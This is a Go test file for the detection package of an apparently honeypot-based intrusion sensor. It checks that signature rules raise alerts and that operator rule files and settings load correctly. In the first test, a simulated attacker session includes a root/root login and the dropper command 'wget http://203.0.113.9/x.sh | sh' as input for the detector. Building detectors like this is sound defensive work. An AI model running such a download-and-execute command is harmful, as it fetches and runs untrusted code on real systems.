package detect

import (
	"bytes"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lure-sensor/lure/internal/config"
	"github.com/lure-sensor/lure/internal/event"
	"github.com/lure-sensor/lure/internal/ips"
	"github.com/lure-sensor/lure/internal/ips/rules"
)

func TestSignatureDropperInShell(t *testing.T) {
	rs, errs := rules.Load(rules.BuiltinName, rules.Builtin(), nil)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	d := NewSignature(rs)
	var s seq
	a := run(d,
		s.ev(event.LoginSuccess, 0, "203.0.113.70", login("root", "root")),
		s.ev(event.CommandInput, time.Second, "203.0.113.70", map[string]any{"input": "uname -a"}),
		s.ev(event.CommandInput, 2*time.Second, "203.0.113.70", map[string]any{"input": "cd /tmp; wget http://203.0.113.9/x.sh | sh"}),
	)
	if len(a) != 1 {
		t.Fatalf("want one alert for the dropper, got %+v", a)
	}
	got := a[0]
	if got.Scenario != "lure/sig-9100001" || got.Detector != "signature" || !got.Handshake || !slices.Equal(got.Evidence, []string{"e3"}) ||
		got.Fields["sid"] != 9100001 || got.Fields["input"] != "cd /tmp; wget http://203.0.113.9/x.sh | sh" || !strings.Contains(got.Reason, "builtin:lure.rules:") {
		t.Errorf("alert = %+v", got)
	}
	// A SYN event never reaches the rules, even one carrying a payload field.
	syn := s.ev(event.TCPSyn, 3*time.Second, "203.0.113.71", map[string]any{"payload": "wget http://x | sh"})
	if a := run(d, syn); len(a) != 0 {
		t.Errorf("SYN event raised %v", a)
	}
}

func TestNewFromConfig(t *testing.T) {
	c := config.Default().IPS.Detect
	ds, err := New(c, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, d := range ds {
		names = append(names, d.Name())
	}
	if !slices.Equal(names, []string{"bruteforce", "spray", "portscan", "signature"}) {
		t.Errorf("default detectors %v", names)
	}
	if n := ds[3].(*Signature).Rules(); n < 20 {
		t.Errorf("only %d built-in rules loaded", n)
	}

	// A bad rule in an operator's file is logged with file, line and reason; the rest run.
	dir := t.TempDir()
	p := filepath.Join(dir, "local.rules")
	os.WriteFile(p, []byte("alert tcp any any -> any any (msg:\"ok\"; content:\"zz\"; sid:1000001;)\n"+
		"alert tcp any any -> any any (msg:\"bad\"; pcre:\"/(a)\\1/\"; sid:1000002;)\n"), 0o600)
	c.Signatures.Builtin, c.Signatures.Files = false, config.StringList{p}
	c.BruteForce.Enabled, c.Spray.Enabled, c.Scan.Enabled = false, false, false
	var logs bytes.Buffer
	ds, err = New(c, slog.New(slog.NewTextHandler(&logs, nil)))
	if err != nil || len(ds) != 1 || ds[0].(*Signature).Rules() != 1 {
		t.Fatalf("New = %v, %v", ds, err)
	}
	if !strings.Contains(logs.String(), "local.rules:2: rule sid 1000002 skipped: pcre: the back-reference") {
		t.Errorf("the bad rule was not logged with its place and reason:\n%s", logs.String())
	}
	var got []ips.Alert
	ds[0].Observe(event.Event{ID: "x", EventID: event.CommandInput, SrcIP: "203.0.113.1", Protocol: "ssh", Fields: map[string]any{"input": "zz"}}, func(a ips.Alert) { got = append(got, a) })
	if len(got) != 1 || got[0].Scenario != "lure/sig-1000001" {
		t.Errorf("the good local rule did not run: %+v", got)
	}

	c.Signatures.HomeNet = "[10.0.0.0/8"
	if _, err := New(c, nil); err == nil || !strings.Contains(err.Error(), "$HOME_NET") {
		t.Errorf("a bad home_net must be an error naming it, got %v", err)
	}
}
